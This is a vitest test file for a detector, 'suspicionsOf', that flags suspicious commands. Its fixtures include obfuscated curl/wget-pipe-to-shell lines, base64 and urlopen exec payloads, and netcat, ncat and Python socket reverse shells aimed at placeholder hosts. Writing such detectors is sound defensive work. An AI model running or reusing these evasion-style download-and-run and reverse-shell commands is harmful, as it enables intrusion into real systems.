import { describe, expect, it } from 'vitest';
import { suspicionsOf } from './commands.ts';

const rulesIn = (text: string, code = false): readonly string[] => suspicionsOf(text, { code }).map(({ rule }) => rule);

describe('suspicionsOf', () => {
  it.each([
    ['download-and-run', "c'u'rl https://example.org/x | s\\h"],
    ['download-and-run', 'C=cu; D=rl; $C$D https://example.org/x | $SHELL'],
    ['download-and-run', `curl\${IFS}https://example.org/x|sh`],
    ['download-and-run', 'alias g=wget\ng -O /opt/x https://example.org/x\nchmod +x /opt/x\n/opt/x &'],
    ['download-and-run', 'echo aGk= | base64 -d > /opt/x; sh /opt/x'],
    ['download-and-run', `python3 -c "import urllib.request as u; exec(u.urlopen('https://example.org/x').read())"`],
    ['download-and-run', 'dig +short txt x.example.org | sh'],
    ['backdoor-command', 'N=nc\n$N -e /bin/sh 192.0.2.1 4444'],
    ['backdoor-command', 'ncat --sh-exec=bash 192.0.2.1 4444'],
    ['runs-from-temporary', 'D=/tmp; $D/x &'],
  ])('%s: %j', (rule, text) => {
    expect(rulesIn(text)).toContain(rule);
  });

  it.each([
    'export PATH="$HOME/bin:$PATH"\neval "$(dircolors -b)"\n',
    'if [ -x /usr/bin/tput ]; then eval "$(SHELL=/bin/sh lesspipe)"; fi',
    'alias ll="ls -l"\nll | cat',
    'curl -fsS https://example.org/health > /dev/null || exit 1',
    'git clone https://example.org/x && ./x/install.sh',
    'K=$(echo "$SECRET" | base64 -d)',
    '. "$HOME/.cargo/env"',
  ])('nothing: %j', (text) => {
    expect(rulesIn(text)).toEqual([]);
  });

  it.each([
    ['download-and-run', 'import base64\nexec(base64.b64decode("aGk="))\n'],
    ['download-and-run', 'from urllib.request import urlopen\nexec(urlopen("https://example.org/x").read())\n'],
    ['backdoor-command', 'import socket,os\ns = socket.socket()\ns.connect(("192.0.2.1",1))\nos.dup2(s.fileno(),0)\n'],
  ])('%s in Python: %j', (rule, text) => {
    expect(rulesIn(text, true)).toContain(rule);
  });

  it('looks at what is near to one another in code', () => {
    const far = `import subprocess\nsubprocess.run(["ls"])\n${'x = 1\n'.repeat(200)}from urllib.request import urlopen\nurlopen("https://example.org")\n`;

    expect(rulesIn(far, true)).toEqual([]);
  });

  it('tells the line as it stands in the text', () => {
    expect(suspicionsOf('\n\nC=curl\n\n$C https://example.org/x | sh\n')).toMatchObject([{ line: 5 }]);
  });
});
